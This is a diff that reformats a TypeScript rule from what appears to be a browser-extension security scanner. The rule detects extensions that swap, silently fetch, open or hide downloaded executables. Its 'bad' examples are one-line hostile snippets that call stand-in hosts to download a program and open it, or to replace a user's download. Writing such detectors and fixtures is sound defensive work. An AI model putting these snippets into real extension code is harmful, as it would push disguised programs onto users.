@@ -1,4 +1,12 @@
-import { callsNamed, callsOf, Op, pattern, propertyOf, writesOf, type ScriptFacts } from '../../facts/javascript/query.ts';
+import {
+  callsNamed,
+  callsOf,
+  Op,
+  pattern,
+  propertyOf,
+  writesOf,
+  type ScriptFacts,
+} from '../../facts/javascript/query.ts';
 import { defineRule } from '../../rule.ts';
 import { backgroundExample, checkScripts, contentExample } from './checkScripts.ts';
 import { tagOf } from './codeRuns.ts';
@@ -23,21 +31,39 @@ export const opensDownloadedProgram = defineRule({
     if (runsInPages(facts, file.path)) {
       for (const write of few(writesOf(script, 'href'), 200)) {
         const to = pattern(script, write.value);
-        if (leadsOut(to) && PROGRAM.test(to) && tagOf(script, write.object) !== 'a') yield hit(write.value, { evidence: to, message: 'Links of pages are made to lead to this program.' });
+        if (leadsOut(to) && PROGRAM.test(to) && tagOf(script, write.object) !== 'a')
+          yield hit(write.value, { evidence: to, message: 'Links of pages are made to lead to this program.' });
       }
     }
     // A file that the script puts together itself and gives a program's name.
     for (const write of few(writesOf(script, 'download'), 60)) {
       const name = pattern(script, write.value);
-      if (PROGRAM.test(name) && callsOf(script, 'Blob').length > 0 && callsNamed(script, 'click', 'dispatchEvent').length > 0) yield hit(write.value, { evidence: name, message: 'The program is put together in the page and saved under this name.' });
+      if (
+        PROGRAM.test(name) &&
+        callsOf(script, 'Blob').length > 0 &&
+        callsNamed(script, 'click', 'dispatchEvent').length > 0
+      )
+        yield hit(write.value, {
+          evidence: name,
+          message: 'The program is put together in the page and saved under this name.',
+        });
     }
     // Another file in the place of the one that the person wanted.
     if (callsOf(script, 'chrome.downloads.cancel').length > 0) {
-      const started = callsOf(script, 'chrome.downloads.onCreated.addListener', 'chrome.downloads.onDeterminingFilename.addListener', 'chrome.downloads.onChanged.addListener');
+      const started = callsOf(
+        script,
+        'chrome.downloads.onCreated.addListener',
+        'chrome.downloads.onDeterminingFilename.addListener',
+        'chrome.downloads.onChanged.addListener',
+      );
       const inside = new Set(started.flatMap((event) => callsIn(script, event.args[0] ?? 0)));
       for (const call of callsOf(script, 'chrome.downloads.download')) {
         const to = pattern(script, propertyOf(script, call.args[0] ?? 0, 'url'));
-        if (inside.has(call.value) && hostOf(to) !== undefined && leadsOut(to)) yield hit(call.value, { evidence: to.slice(0, 160), message: 'A download is stopped, and this is fetched in its place.' });
+        if (inside.has(call.value) && hostOf(to) !== undefined && leadsOut(to))
+          yield hit(call.value, {
+            evidence: to.slice(0, 160),
+            message: 'A download is stopped, and this is fetched in its place.',
+          });
       }
     }
     const opens = callsOf(script, 'chrome.downloads.open', 'chrome.downloads.acceptDanger');
@@ -45,38 +71,74 @@ export const opensDownloadedProgram = defineRule({
       const address = propertyOf(script, call.args[0] ?? 0, 'url');
       const to = pattern(script, address);
       const name = pattern(script, propertyOf(script, call.args[0] ?? 0, 'filename'));
-      if (PROGRAM.test(to) || PROGRAM.test(name)) yield hit(call.value, opens.length > 0 ? { severity: 'critical', message: 'It is opened when it is there.' } : {});
+      if (PROGRAM.test(to) || PROGRAM.test(name))
+        yield hit(
+          call.value,
+          opens.length > 0 ? { severity: 'critical', message: 'It is opened when it is there.' } : {},
+        );
       else if (!isFromServer(script, address)) continue;
-      else if (opens.length > 0) yield hit(call.value, { severity: 'critical', message: 'A server decides what is downloaded, and it is opened.' });
-      else if (hidesDownloads(script)) yield hit(call.value, { message: 'A server decides what is downloaded, and the browser’s list of downloads is hidden.' });
+      else if (opens.length > 0)
+        yield hit(call.value, {
+          severity: 'critical',
+          message: 'A server decides what is downloaded, and it is opened.',
+        });
+      else if (hidesDownloads(script))
+        yield hit(call.value, {
+          message: 'A server decides what is downloaded, and the browser’s list of downloads is hidden.',
+        });
     }
   }),
   examples: {
     bad: [
       backgroundExample('chrome.downloads.download({ url: "https://x.example/setup.exe", filename: "update.exe" });'),
-      backgroundExample('fetch("https://x.example/task").then((r) => r.json()).then((t) => chrome.downloads.download({ url: t.url }, (id) => chrome.downloads.open(id)));'),
-      backgroundExample('fetch("https://x.example/n").then((r) => r.json()).then((j) => { chrome.downloads.setShelfEnabled(false); chrome.downloads.download({ url: j.u, filename: "invoice." + j.ext }); });'),
-      contentExample('document.querySelectorAll("a[download]").forEach((a) => { a.href = "https://get.example/setup.exe?n=" + a.textContent; });'),
-      contentExample('const a = document.createElement("a"); a.href = URL.createObjectURL(new Blob([bytes])); a.download = "Update_" + Date.now() + ".exe"; a.click();'),
-      backgroundExample('chrome.downloads.onCreated.addListener(async (item) => { await chrome.downloads.cancel(item.id); chrome.downloads.download({ url: "https://fast.example/get?f=" + encodeURIComponent(item.finalUrl), filename: item.filename }); });'),
+      backgroundExample(
+        'fetch("https://x.example/task").then((r) => r.json()).then((t) => chrome.downloads.download({ url: t.url }, (id) => chrome.downloads.open(id)));',
+      ),
+      backgroundExample(
+        'fetch("https://x.example/n").then((r) => r.json()).then((j) => { chrome.downloads.setShelfEnabled(false); chrome.downloads.download({ url: j.u, filename: "invoice." + j.ext }); });',
+      ),
+      contentExample(
+        'document.querySelectorAll("a[download]").forEach((a) => { a.href = "https://get.example/setup.exe?n=" + a.textContent; });',
+      ),
+      contentExample(
+        'const a = document.createElement("a"); a.href = URL.createObjectURL(new Blob([bytes])); a.download = "Update_" + Date.now() + ".exe"; a.click();',
+      ),
+      backgroundExample(
+        'chrome.downloads.onCreated.addListener(async (item) => { await chrome.downloads.cancel(item.id); chrome.downloads.download({ url: "https://fast.example/get?f=" + encodeURIComponent(item.finalUrl), filename: item.filename }); });',
+      ),
     ],
     good: [
-      backgroundExample('chrome.downloads.onCreated.addListener(async (item) => { await chrome.downloads.cancel(item.id); chrome.downloads.download({ url: item.finalUrl, filename: "sorted/" + item.filename }); });'),
-      contentExample('const a = document.createElement("a"); a.href = URL.createObjectURL(new Blob([text])); a.download = document.title + ".md"; a.click();'),
-      contentExample('const a = document.createElement("a"); a.href = "https://tool.example/helper.exe"; a.textContent = "Install the helper"; panel.append(a);'),
-      backgroundExample('fetch("https://api.example.com/media").then((r) => r.json()).then((j) => chrome.downloads.download({ url: j.u, filename: j.title + ".mp4" }));'),
+      backgroundExample(
+        'chrome.downloads.onCreated.addListener(async (item) => { await chrome.downloads.cancel(item.id); chrome.downloads.download({ url: item.finalUrl, filename: "sorted/" + item.filename }); });',
+      ),
+      contentExample(
+        'const a = document.createElement("a"); a.href = URL.createObjectURL(new Blob([text])); a.download = document.title + ".md"; a.click();',
+      ),
+      contentExample(
+        'const a = document.createElement("a"); a.href = "https://tool.example/helper.exe"; a.textContent = "Install the helper"; panel.append(a);',
+      ),
+      backgroundExample(
+        'fetch("https://api.example.com/media").then((r) => r.json()).then((j) => chrome.downloads.download({ url: j.u, filename: j.title + ".mp4" }));',
+      ),
       backgroundExample('chrome.downloads.download({ url: canvas.toDataURL(), filename: "shot.png" });'),
-      backgroundExample('chrome.downloads.onChanged.addListener((d) => { if (d.state) show(d.id); }); button.onclick = () => chrome.downloads.open(id);'),
+      backgroundExample(
+        'chrome.downloads.onChanged.addListener((d) => { if (d.state) show(d.id); }); button.onclick = () => chrome.downloads.open(id);',
+      ),
     ],
   },
 });
 
 function hidesDownloads(script: ScriptFacts): boolean {
   if (callsOf(script, 'chrome.downloads.setShelfEnabled').some((call) => isOff(script, call.args[0] ?? 0))) return true;
-  return callsOf(script, 'chrome.downloads.setUiOptions').some((call) => isOff(script, propertyOf(script, call.args[0] ?? 0, 'enabled'))) || callsOf(script, 'chrome.downloads.erase').length > 0;
+  return (
+    callsOf(script, 'chrome.downloads.setUiOptions').some((call) =>
+      isOff(script, propertyOf(script, call.args[0] ?? 0, 'enabled')),
+    ) || callsOf(script, 'chrome.downloads.erase').length > 0
+  );
 }
 
-const isOff = (script: ScriptFacts, value: number): boolean => script.op[value] === Op.constant && script.strings[script.a[value] as number] === 'false';
+const isOff = (script: ScriptFacts, value: number): boolean =>
+  script.op[value] === Op.constant && script.strings[script.a[value] as number] === 'false';
 
 /** Calls that a listener makes, by value. */
 function callsIn(script: ScriptFacts, listener: number): number[] {
